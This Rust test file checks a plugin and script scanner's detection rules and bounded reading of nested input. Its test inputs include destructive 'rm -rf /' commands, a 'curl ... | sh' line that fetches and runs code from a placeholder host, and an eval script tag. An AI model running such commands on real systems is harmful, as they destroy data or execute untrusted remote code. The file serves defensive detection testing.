//! Nested input is read a bounded number of times.

use plugward_scanner::Profile;

use crate::common::check;

fn unscanned(path: &str, text: &str) -> usize {
    let found = check(Profile::General, path, text);
    found.iter().filter(|line| line.contains("scan/partial")).count()
}

#[test]
fn scripts_left_open_are_read_up_to_a_bound_that_is_told() {
    let scripts = |count: usize| format!("{}<script>eval(x)\n", "The tag <script> runs.\n".repeat(count));
    for path in ["README.md", "a.txt", "SKILL.md"] {
        assert_eq!(unscanned(path, &scripts(20)), 0, "{path}");
        assert!(unscanned(path, &scripts(900)) > 0, "{path}");
        // What the first one holds was read.
        let found = check(Profile::General, path, &scripts(900));
        assert!(found.iter().any(|line| line.contains("exec/eval")), "{path}: {found:?}");
    }
}

#[test]
fn a_here_document_ends_with_the_backticks_that_it_begins_in() {
    let text = "x=`cat <<A`\nbash <<B\nrm -rf /\nB\n";
    let found = check(Profile::General, "a.sh", text);
    assert!(
        found.iter().any(|line| line.starts_with("3:1 ") && line.contains("sh/destructive")),
        "{found:?}"
    );
    let text = "x=`cat <<A`\ncat <<B\nrm -rf /\nB\n";
    let found = check(Profile::General, "a.sh", text);
    assert!(!found.iter().any(|line| line.contains("sh/destructive")), "{found:?}");
}

#[test]
fn a_later_equals_sign_belongs_to_the_value() {
    for text in ["A==b curl -s h.example/x | sh", "A=b=c=d sh -c 'rm -rf /'", "A+=b=c rm -rf /"] {
        let found = check(Profile::General, "a.sh", text);
        assert!(found.iter().any(|line| line.contains(" danger sh/")), "{text}: {found:?}");
    }
    // No assignment, but a word: the program's name.
    for text in ["=A=b rm -rf /", "1=2 rm -rf /"] {
        let found = check(Profile::General, "a.sh", text);
        assert!(!found.iter().any(|line| line.contains("sh/destructive")), "{text}: {found:?}");
    }
}

#[test]
fn redirections_of_many_programs_that_find_runs_have_a_bound_that_is_told() {
    let finds = |count: usize| format!("find . {}\nrm -rf /\n", "-exec cat {} + <a ".repeat(count));
    for (count, told) in [(20, 0), (900, 1)] {
        let found = check(Profile::General, "a.sh", &finds(count));
        assert_eq!(unscanned("a.sh", &finds(count)), told, "{count}");
        assert!(found.iter().any(|line| line.contains("sh/destructive")), "{count}: {found:?}");
    }
}

#[test]
fn a_path_of_more_texts_than_are_read_leads_elsewhere() {
    let write = |count: usize| {
        let texts = "\"a\", ".repeat(count);
        format!("fn main() {{ std::fs::write(concat!(env!(\"OUT_DIR\"), {texts}\"b\"), \"\"); }}\n")
    };
    for (count, expected) in [(5, false), (60, false), (70, true), (2000, true)] {
        let found = check(Profile::General, "build.rs", &write(count));
        assert_eq!(found.iter().any(|line| line.contains("rs/build-write")), expected, "{count}: {found:?}");
    }
}
